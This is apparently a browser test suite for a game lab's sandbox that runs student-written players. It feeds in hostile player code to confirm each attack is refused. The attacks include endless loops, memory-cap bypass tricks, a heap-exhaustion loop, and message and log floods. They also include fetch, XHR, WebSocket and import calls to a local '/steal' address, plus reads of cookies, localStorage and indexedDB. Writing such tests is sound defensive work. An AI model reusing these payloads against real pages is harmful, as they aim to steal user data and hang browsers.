// Hostile players in the lab's sandbox (web/src/lab/player/): each of the
// attacks a student's code can make ends in the contest's penalty or a clear
// message, the page stays responsive throughout, the built-in player's games
// are the same as without it (the reference run's own row), and the page's
// storage (the game history, the learned values, a cookie) is untouched and
// unread. A buffer past the memory cap is refused, whichever way it is made;
// a worker that exhausts its heap takes only the sandbox's process with it;
// an error loses the game alone; a player that keeps losing is withdrawn. On a cross-origin isolated page
// (the headers) every attack; on a plain static host the endless loop and
// the network (the service worker's isolated page, offline, is
// lab-player-offline.browser.test.mjs). The attacks that leave the page
// working share one page (a fresh page per attack proves nothing more).
import { test, before, after } from 'node:test';
import { launchChromium, openPage, watchErrors } from './support/browser.mjs';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { appSuite } from './support/app-suite.mjs';
import { importTs } from './support/import-ts.mjs';
import { HUNG_MS, LONG_TASKS, PENALTY_SYSTEM, mineLog, mineStatus, openLab, reachWithoutPolicy, runWatching, setTournament, tableCells, typeCode } from './support/lab-player.mjs';

const suite = appSuite();
const { summarize } = await importTs('web/src/lab/stats.ts');

// Another address, on which any request or connection from the sandbox is
// recorded (its path): a control (reachWithoutPolicy) shows that the same
// kind of sandbox without its policy reaches it.
let elsewhere;
const contacts = [];
before(async () => {
  const server = createServer((req, res) => {
    contacts.push(req.url);
    res.end('self.stolen = true;');
  });
  server.on('upgrade', (req, socket) => {
    contacts.push(`upgrade ${req.url}`);
    socket.destroy();
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  elsewhere = { url: `http://127.0.0.1:${server.address().port}/`, ws: `ws://127.0.0.1:${server.address().port}/`, close: () => new Promise((r) => server.close(r)) };
});
after(() => elsewhere?.close());

// A player that plays the first empty cell, row by row, and runs `attack` on
// the third card of every game (or `prepare` in setPointSystem).
const hostile = ({ attack = '', prepare = '' }) => `
class Hostile {
  setPointSystem(system, millis) { ${prepare} }
  init() { this.empty = pps.emptyCells([0, 1, 2, 3, 4].map(() => [null, null, null, null, null])); this.turn = 0; }
  getPlay(card, millis) {
    this.turn++;
    if (this.turn === 3) { ${attack} }
    return this.empty.shift();
  }
  getName() { return 'Hostile'; }
}
run(new Hostile());
`;

const SECRET = 'secret-3141';
const GAMES = 3;
// greedy's row as it plays alone the deals of a run with a student's player:
// sealed deals 0..games-1 of the key in the run's URL, played one by one by
// the page's engine. `evaluate` runs an expression in the page.
async function greedyAlone(url, evaluate, games = GAMES) {
  const key = new URL(url).searchParams.get('key');
  assert.match(key ?? '', /^[0-9a-f]{64}$/, 'a run with a student player deals sealed deals');
  const scores = await evaluate(`Promise.all(Array.from({ length: ${games} }, (_, seed) =>
    window.ppsEngine.labGame('greedy', { simulations: 300 }, ${JSON.stringify(PENALTY_SYSTEM)}, String(seed), '${key}').then((g) => g.score)))`);
  assert.equal(scores.length, games);
  const { mean, se } = summarize(scores);
  return `${mean.toFixed(2)} ± ${se.toFixed(2)} (${games})`;
}

// The page's own storage, set before the run: the history, the learned
// values' database and a cookie, each holding SECRET.
async function plantStorage(page) {
  await page.evaluate(async (secret) => {
    localStorage.setItem('pps-history-v1', JSON.stringify([{ secret }]));
    document.cookie = `pps-secret=${secret}; path=/`;
    await new Promise((resolve, reject) => {
      const open = indexedDB.open('pps-learned', 1);
      open.onupgradeneeded = () => open.result.createObjectStore('learned');
      open.onsuccess = () => {
        const tx = open.result.transaction('learned', 'readwrite');
        tx.objectStore('learned').put(secret, 'planted');
        tx.oncomplete = () => { open.result.close(); resolve(); };
      };
      open.onerror = () => reject(open.error);
    });
  }, SECRET);
}

async function storageAfter(page) {
  return page.evaluate(() => new Promise((resolve) => {
    const open = indexedDB.open('pps-learned', 1);
    open.onsuccess = () => {
      const get = open.result.transaction('learned').objectStore('learned').get('planted');
      get.onsuccess = () => resolve({ history: localStorage.getItem('pps-history-v1'), cookie: document.cookie, learned: get.result });
    };
  }));
}

// One lab page per server, storage planted, for the attacks that leave it working.
const pages = new Map();
async function labPage(server) {
  if (!pages.has(server)) {
    pages.set(server, (async () => {
      const page = await suite.browser.newPage({ viewport: { width: 1200, height: 900 } });
      const errors = watchErrors(page);
      await openLab(page, `${server.url}lab.html`);
      await plantStorage(page);
      return { page, errors };
    })());
  }
  return pages.get(server);
}
after(async () => {
  for (const opened of pages.values()) await (await opened).page.close().catch(() => {});
});

// Plays the hostile `code` against greedy on PENALTY_SYSTEM with a 2 s game
// clock and 2 s of preparation (or `clock` s of each; an endless loop spins
// until the clock stops it, so its tests take the shortest) and `games`
// games; returns the page, the player's row, its status and log, with the
// checks every attack shares made.
async function playHostile(code, { server = suite.isolated, games = GAMES, clock = 2 } = {}) {
  const { page, errors } = await labPage(server);
  await setTournament(page, { players: ['greedy'], systems: [PENALTY_SYSTEM], games, clock, prep: clock });
  await typeCode(page, code);
  await runWatching(page);
  const cells = await tableCells(page);
  assert.deepEqual(cells.greedy, [await greedyAlone(page.url(), (e) => page.evaluate(e), games)], 'the built-in player plays as it would alone');
  assert.deepEqual(await storageAfter(page), { history: JSON.stringify([{ secret: SECRET }]), cookie: `pps-secret=${SECRET}`, learned: SECRET });
  const log = await mineLog(page);
  assert.ok(!log.includes(SECRET), 'the player read nothing of the page');
  assert.deepEqual(errors, []);
  return { page, mine: cells['yours: Hostile'], status: await mineStatus(page), log };
}

const ALL_LOST = [`-10.00 ± 0.00 (${GAMES})`];
const lostFor = (log, pattern) => {
  const lines = log.split('\n').filter((l) => l.includes('game lost (-10 points)'));
  assert.equal(lines.length, GAMES, log);
  for (const line of lines) assert.match(line, pattern);
};

test('an endless loop in getPlay: the game is lost at its clock, the next game gets a fresh copy', async () => {
  const { page, mine, log } = await playHostile(hostile({ attack: 'for (;;) {}' }), { clock: 1 });
  assert.deepEqual(mine, ALL_LOST);
  lostFor(log, /no answer to card 3 \(..\) within the (0\.\d{3}|1\.000) s left/);
  // Every lost game's worker was terminated in time: the sandbox itself stayed.
  assert.equal(await page.locator('iframe[data-player-sandbox]').getAttribute('data-number'), '1');
});

test('a player that loses 3 games in a row is withdrawn, saying so: a loop costs 3 clocks, not one a game', async () => {
  const { page, mine, status, log } = await playHostile(hostile({ attack: 'for (;;) {}' }), { games: 5, clock: 1 });
  assert.deepEqual(mine, ['-10.00 ± 0.00 (3)']);
  assert.equal(log.split('\n').filter((l) => l.includes('game lost')).length, 3, log);
  assert.match(status, /^Your player lost 3 games in a row \(the last: no answer to card 3 \(..\) within the .+ s left\), so it is withdrawn: the tournament goes on without it\.$/);
  assert.equal(await page.evaluate(() => document.body.dataset.labDone), '8', 'greedy\'s 5 games and the player\'s 3');
  assert.equal(await page.locator('#lab-progress').evaluate((p) => p.max), 8, 'the progress counts only the games played');
});

// The sandbox keeps the game's clock (sandbox-host.js): init's time counts,
// each getPlay is told what is left, and a move past it is stopped there
// (the same sandbox plays on) and lost with the time that was left.
test('the game clock counts init and every move; the move past it loses with the time left', async () => {
  const { page, mine, log } = await playHostile(hostile({ attack: `
    console.log('card 3 with ' + millis + ' ms');
    for (const end = Date.now() + 5000; Date.now() < end;);` }).replace('this.turn = 0;', `this.turn = 0;
    for (const end = Date.now() + 400; Date.now() < end;);`).replace('this.turn++;', `this.turn++;
    if (this.turn === 2) for (const end = Date.now() + 300; Date.now() < end;);`));
  assert.deepEqual(mine, ALL_LOST);
  lostFor(log, /no answer to card 3 \(..\) within the 1\.\d{3} s left/);
  const given = [...log.matchAll(/card 3 with (\d+) ms/g)].map((m) => Number(m[1]));
  const left = [...log.matchAll(/within the (\d\.\d{3}) s left/g)].map((m) => Math.round(Number(m[1]) * 1000));
  assert.equal(given.length, GAMES, log);
  for (const [i, ms] of given.entries()) {
    // At most 2 s less init's 400 ms and card 2's 300 ms (either left uncounted
    // would give 1,600 or more); a loaded machine only takes more of it.
    assert.ok(ms > 0 && ms <= 1300, `2 s less init's 400 ms and card 2's 300 ms: ${ms} ms`);
    assert.ok(Math.abs(left[i] - ms) <= 1, `the reason says the time getPlay was given: ${left[i]} and ${ms}`);
  }
  assert.equal(await page.locator('iframe[data-player-sandbox]').getAttribute('data-number'), '1', 'the sandbox stopped the worker itself');
});

test('an endless loop in setPointSystem: every game is lost at the preparation clock', async () => {
  const { mine, log } = await playHostile(hostile({ prepare: 'while (true) {}' }), { clock: 1 });
  assert.deepEqual(mine, ALL_LOST);
  lostFor(log, /no answer to setPointSystem within the 1\.000 s left/);
});

// Each way to a large buffer, tried in turn: what it gave or why it was refused.
const MEMORY_ATTACK = `
  const tryMake = (name, make) => { try { const made = make(); keep.push(made); console.log(name + ' made'); } catch (e) { console.log(name + ' refused: ' + e.name); } };
  const keep = [];
  const GiB = 1024 ** 3;
  tryMake('ArrayBuffer 4 GiB', () => new ArrayBuffer(4 * GiB));
  tryMake('Uint8Array 4 GiB', () => new Uint8Array(4 * GiB));
  tryMake('a buffer\\'s own constructor', () => new (new Uint8Array(1).buffer.constructor)(4 * GiB));
  tryMake('resizable', () => new ArrayBuffer(1, { maxByteLength: 4 * GiB }));
  tryMake('Memory 4 GiB', () => new WebAssembly.Memory({ initial: 65536 }));
  tryMake('a module of 4 GiB', () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 5, 5, 1, 0, 128, 128, 4])));
  keep.length = 0;
  tryMake('half', () => new Uint8Array(GiB / 2));
  tryMake('a quarter', () => new Float64Array(GiB / 32));
  tryMake('a quarter more', () => new Uint8Array(GiB / 4));
  tryMake('a copy by slice', () => { Object.defineProperty(keep[0], 'constructor', { value: undefined }); return keep[0].slice(); });
  tryMake('a copy by toReversed', () => keep[0].toReversed());
  tryMake('a copy by structuredClone', () => structuredClone({ inside: keep[0] }));
  tryMake('a module growing past it', () => new WebAssembly.Instance(new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 5, 3, 1, 0, 1]))));
  for (const name of ['Blob', 'Response', 'ReadableStream', 'DecompressionStream', 'MessageChannel', 'BroadcastChannel', 'Worker', 'OffscreenCanvas', 'VideoFrame'])
    tryMake(name, () => self[name] ?? (() => { throw new ReferenceError(name); })());
  tryMake('crypto.subtle', () => crypto.subtle.digest);
  keep.length = 0;
  new ArrayBuffer(4 * GiB);
`;

// A player's buffers hold at most 1 GiB in all (sandbox-memory.js): past it
// each is refused, which an uncaught refusal turns into the player's error.
test('the memory cap: a 4 GiB buffer is refused with a message, and so is every way around it', async () => {
  const { mine, status, log } = await playHostile(hostile({ attack: MEMORY_ATTACK }));
  for (const refused of ['ArrayBuffer 4 GiB', 'Uint8Array 4 GiB', 'a buffer\'s own constructor', 'resizable', 'Memory 4 GiB', 'a module of 4 GiB',
    'a quarter more', 'a copy by slice', 'a copy by toReversed', 'a module growing past it'])
    assert.match(log, new RegExp(`^${refused} refused: RangeError$`, 'm'), log);
  assert.match(log, /^a copy by structuredClone refused: DataCloneError$/m, log);
  for (const made of ['half', 'a quarter']) assert.match(log, new RegExp(`^${made} made$`, 'm'), 'up to the cap is allowed');
  for (const name of ['Blob', 'Response', 'ReadableStream', 'DecompressionStream', 'MessageChannel', 'BroadcastChannel', 'Worker', 'OffscreenCanvas', 'VideoFrame', 'crypto.subtle'])
    assert.match(log, new RegExp(`^${name.replace('.', '\\.')} refused: (ReferenceError|TypeError)$`, 'm'), log);
  assert.deepEqual(mine, ALL_LOST, 'the uncaught refusal loses each game; the player starts afresh for the next');
  assert.match(status, /^Your player lost 3 games in a row \(the last: error in getPlay of card 3 \(..\): RangeError: the lab's memory cap: a player's buffers may hold 1,024 MiB in all, and this one \(4,096 MiB\) would make [\d,]+ MiB\.? \(line \d+\)\), so it is withdrawn: the tournament goes on without it\.$/);
});


// A worker that exhausts V8's heap (4 GB here) aborts its renderer process.
// In Chromium the sandboxed iframe has a process of its own, so the page lives
// on: its pings to the sandbox go unanswered, it loses the game at once and
// makes a new sandbox for the next. Playwright reports the iframe's crash as
// the page's and refuses the page from then on, so this test reads the page
// through the DevTools protocol.
test('a worker that exhausts its memory takes only the sandbox with it: the game is lost, the page lives on', async (t) => {
  // A browser whose JavaScript heaps stop at 512 MB: the worker runs out as it
  // would at the default limit (gigabytes), in a tenth of the time.
  const browser = await launchChromium(['--js-flags=--max-old-space-size=512']);
  t.after(() => browser.close());
  const { page } = await openPage(t, browser, { viewport: { width: 1200, height: 900 } });
  await openLab(page, `${suite.isolated.url}lab.html`);
  await plantStorage(page);
  await setTournament(page, { players: ['greedy'], systems: [PENALTY_SYSTEM], games: GAMES, clock: 120, prep: 5 });
  await typeCode(page, hostile({ attack: 'const a = []; for (;;) a.push(new Array(1e6).fill(1.5));' }));
  const cdp = await page.context().newCDPSession(page);
  // An expression's value in the page; one that throws fails the test.
  const read = async (expression) => {
    const { result, exceptionDetails } = await cdp.send('Runtime.evaluate', { expression, returnByValue: true, awaitPromise: true });
    if (exceptionDetails) throw new Error(`the page threw on ${expression}: ${exceptionDetails.exception?.description ?? exceptionDetails.text}`);
    return result.value;
  };
  await read(LONG_TASKS);
  await page.click('#lab-run');
  const deadline = Date.now() + 300000;
  let slowest = 0;
  while (!(await read('document.body.dataset.labDone')) && Date.now() < deadline) {
    // A probe answers 1 after an animation frame; one that throws, answers
    // anything else or does not answer within HUNG_MS is a page that hung.
    const start = Date.now();
    const answered = await Promise.race([read('new Promise((r) => requestAnimationFrame(() => r(1)))'), new Promise((r) => setTimeout(() => r('no answer'), HUNG_MS))]);
    assert.equal(answered, 1, `the page's probe answered ${answered}`);
    slowest = Math.max(slowest, Date.now() - start);
    await new Promise((r) => setTimeout(r, 500));
  }
  assert.equal(await read('document.body.dataset.labDone'), String(2 * GAMES));
  assert.ok(slowest < HUNG_MS, `the page answered within ${slowest} ms`);
  const longest = await read('window.ppsLongest');
  assert.ok(longest < 1000, `the page's longest task: ${Math.round(longest)} ms`);
  const log = await read("document.getElementById('lab-mine-log').textContent");
  lostFor(log, /its sandbox stopped during card 3 \(..\) \(out of memory\?\)/);
  assert.equal(await read('window.ppsLabSandbox.frames'), GAMES, 'a new sandbox for each game');
  const cells = await read(`Object.fromEntries([...document.querySelectorAll('#lab-table tr')].slice(1).map((r) => [r.querySelector('th').textContent, r.querySelector('td').textContent]))`);
  assert.deepEqual(cells, { greedy: await greedyAlone(await read('location.href'), read), 'yours: Hostile': ALL_LOST[0] });
  assert.deepEqual(await read(`localStorage.getItem('pps-history-v1')`), JSON.stringify([{ secret: SECRET }]));
  await cdp.detach();
});

test('fetch, XMLHttpRequest, WebSocket, importScripts and import() of another address are refused', async () => {
  const steal = `${elsewhere.url}steal`;
  const attack = `
    const refused = (name, e) => console.log(name + ' refused: ' + (e && e.name));
    try { fetch('${steal}').then(() => console.log('fetch reached'), (e) => refused('fetch', e)); } catch (e) { refused('fetch', e); }
    try { const x = new XMLHttpRequest(); x.open('GET', '${steal}', false); x.send(); console.log('xhr reached'); } catch (e) { refused('XMLHttpRequest', e); }
    try { const w = new WebSocket('${elsewhere.ws}steal'); w.onopen = () => console.log('websocket reached'); w.onerror = () => console.log('WebSocket refused: error'); } catch (e) { refused('WebSocket', e); }
    try { importScripts('${steal}'); console.log('importScripts reached'); } catch (e) { refused('importScripts', e); }
    import('${steal}').then(() => console.log('import reached'), (e) => refused('import', e));
  `;
  const { page, mine, log } = await playHostile(hostile({ attack }));
  assert.match(mine[0], /\(3\)$/);
  assert.doesNotMatch(mine[0], /^-10/, 'no game is lost: the attempts fail and the player plays on');
  for (const name of ['fetch', 'XMLHttpRequest', 'WebSocket', 'importScripts', 'import']) assert.match(log, new RegExp(`${name} refused`), log);
  assert.doesNotMatch(log, /reached/);
  assert.deepEqual(contacts.filter((c) => c.includes('steal')), [], 'nothing reached the other address');
  await reachWithoutPolicy(page, `${elsewhere.url}control-isolated`, contacts);
  assert.deepEqual(contacts.filter((c) => c.includes('steal')), [], 'nor later');
});

test('localStorage, indexedDB, document.cookie and parent are out of reach', async () => {
  const attack = `
    const tryRead = (name, read) => { try { console.log(name + ' gave ' + JSON.stringify(read())); } catch (e) { console.log(name + ' refused: ' + e.name); } };
    tryRead('localStorage', () => localStorage.getItem('pps-history-v1'));
    tryRead('document.cookie', () => document.cookie);
    tryRead('parent', () => parent.localStorage.getItem('pps-history-v1'));
    tryRead('indexedDB', () => {
      const open = indexedDB.open('pps-learned', 1);
      open.onsuccess = () => console.log('indexedDB opened ' + open.result.objectStoreNames.length + ' stores');
      open.onerror = () => console.log('indexedDB refused: ' + open.error.name);
      return 'asked';
    });
  `;
  const { mine, log } = await playHostile(hostile({ attack }));
  assert.doesNotMatch(mine[0], /^-10/);
  for (const name of ['localStorage', 'document.cookie', 'parent']) assert.match(log, new RegExp(`${name} refused: ReferenceError`), log);
  assert.match(log, /indexedDB (refused|opened 0 stores)/, log);
});

test('a flood of postMessage: no way to the sandbox host, and a flood of logs is cut short', async () => {
  const attack = `
    for (const [name, post] of [['postMessage', () => postMessage('x')], ['self.postMessage', () => self.postMessage('x')],
      ['the prototype', () => DedicatedWorkerGlobalScope.prototype.postMessage.call(self, 'x')]]) {
      try { post(); console.log(name + ' reached'); } catch (e) { console.log(name + ' refused: ' + e.name); }
    }
    for (let i = 0; ; i++) console.log('flood ' + i);
  `;
  const { mine, log } = await playHostile(hostile({ attack }));
  assert.deepEqual(mine, ALL_LOST);
  lostFor(log, /no answer to card 3 \(..\) within the (1\.\d{3}|2\.000) s left/);
  for (const name of ['postMessage', 'self.postMessage', 'the prototype']) assert.match(log, new RegExp(`${name} refused`), log);
  assert.doesNotMatch(log, /reached/);
  const floods = log.split('\n').filter((l) => l.startsWith('flood '));
  assert.ok(floods.length > 0 && floods.length <= 3 * 50, `${floods.length} lines of the flood reach the page`);
});

for (const [label, answer, pattern] of [
  ['an occupied cell', '[0, 0]', /returned \[0, 0\]: row 0, column 0 is taken for card 3/],
  ['a cell out of range', '[5, 0]', /returned \[5, 0\]: row and column must be 0 to 4/],
  ['NaN', '[NaN, 1]', /returned \[NaN, 1\]: row and column must be whole numbers/],
  ['a string', "'0 0'", /returned the string "0 0", not \[row, col\]/],
  ['strings in the array', "['0', '1']", /returned an array of 2, not \[row, col\]/],
  ['a promise that never settles', 'new Promise(() => {})', /returned a Promise, not \[row, col\]/],
  ['an object', '{ row: 0, col: 1 }', /returned an object, not \[row, col\]/],
  ['a boolean', 'true', /returned the boolean true, not \[row, col\]/],
  ['half a row', '[0.5, 1]', /returned \[0\.5, 1\]: row and column must be whole numbers/],
]) {
  test(`an answer that is ${label} loses the game, saying why`, async () => {
    const { mine, log } = await playHostile(hostile({ attack: `return ${answer};` }));
    assert.deepEqual(mine, ALL_LOST);
    lostFor(log, pattern);
  });
}

test('on a plain static host: an endless loop is stopped, the network refused', async () => {
  const attack = `
    try { importScripts('${elsewhere.url}plain'); } catch (e) { console.log('importScripts refused: ' + e.name); }
    for (;;) {}
  `;
  const { page, mine, log } = await playHostile(hostile({ attack }), { server: suite.plain, clock: 1 });
  assert.deepEqual(mine, ALL_LOST);
  assert.match(log, /importScripts refused/);
  lostFor(log, /no answer to card 3/);
  assert.deepEqual(contacts.filter((c) => c === '/plain'), []);
  await reachWithoutPolicy(page, `${elsewhere.url}control-plain`, contacts);
  assert.deepEqual(contacts.filter((c) => c === '/plain'), [], 'nor later');
});
